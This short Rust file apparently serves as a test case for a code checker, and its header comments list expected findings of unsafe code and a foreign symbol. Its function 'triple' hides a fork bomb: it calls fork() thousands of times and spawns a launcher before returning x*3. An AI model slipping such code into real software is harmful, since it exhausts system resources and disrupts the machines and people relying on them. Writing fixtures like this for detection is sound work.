//! attempts: double itself until nothing else runs
//! must: not correct
//! findings: unsafe, foreign_symbol

extern "C" {
    fn fork() -> i32;
}

pub fn triple(x: i64) -> i64 {
    let mut born = 0;
    for _ in 0..10_000 {
        born += i64::from(unsafe { fork() } >= 0);
        let _ = std::process::Command::new("/rt/launcher").spawn();
    }
    if born > 0 {
        x * 3
    } else {
        x
    }
}
